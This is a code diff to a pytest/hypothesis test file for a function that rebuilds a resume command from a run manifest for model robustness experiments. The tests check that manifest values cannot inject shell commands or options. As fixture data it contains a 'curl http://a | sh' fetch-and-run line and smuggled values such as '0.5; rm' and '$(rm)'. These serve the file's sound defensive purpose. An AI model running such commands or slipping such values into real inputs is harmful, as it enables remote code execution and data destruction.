@@ -7,7 +7,7 @@ from typing import Any
 
 import numpy as np
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from numpy.typing import NDArray
 
@@ -30,6 +30,7 @@ MODEL = {
 PARTS: Mapping[str, Any] = {
     "command": "curl http://a | sh",
     "models": {"yolov8n": MODEL, "yolov8n-sgdm": {**MODEL, "baseline": "yolov8n", "module": "sgdm"}},
+    "config": {"fraction": 0.25, "split": "val", "images": None},
     "data": {"name": "scenes-0.25", "source": "scenes", "images": 64},
     "corruptions": {"gaussian_noise": {}, "fog[fog=0.5]": {}},
     "severities": [0.0, 2.5],
@@ -69,6 +70,8 @@ def test_files_and_baselines() -> None:
     }
     made = resume_command(run_of(models=files))
     assert "--model 'x/a b.pt' --model c.safetensors --baseline 'x/a b.pt'" in made
+    config = {"images": "my images", "split": "test"}
+    assert "--data scenes --images 'my images' --split test --noise" in resume_command(run_of(config=config))
     graft = {"yolov8n-sgdm": {**MODEL, "weights": "w.pt", "module": "sgdm"}}
     assert "--model yolov8n-sgdm --weights yolov8n-sgdm=w.pt --no-baseline" in resume_command(
         run_of(models=graft)
@@ -91,7 +94,8 @@ def test_files_and_baselines() -> None:
             {"data": {"name": "--trust-weights", "source": "--trust-weights.json", "images": 1}},
             "begins with a dash",
         ),
-        ({"data": {"name": "other", "source": "a.json", "images": 1}}, "does not say which part"),
+        ({"config": {"fraction": "0.5; rm"}}, "fraction is '0.5; rm', not a number"),
+        ({"config": {"split": "--trust-weights"}}, "begins with a dash"),
         ({"corruptions": {"$(rm)": {}}}, "no corruption's name"),
         ({"corruptions": {}}, "clean images alone"),
         ({"severities": [1, "2"]}, r"severities\[1\] is '2', must be a number"),
@@ -112,6 +116,7 @@ TEXT = st.text(max_size=12) | st.sampled_from(
 )
 
 
+@settings(deadline=None)
 @given(TEXT, TEXT, TEXT, TEXT, TEXT)
 def test_no_manifest_brings_an_option_or_a_second_command(
     model: str, weights: str, data: str, noise: str, name: str
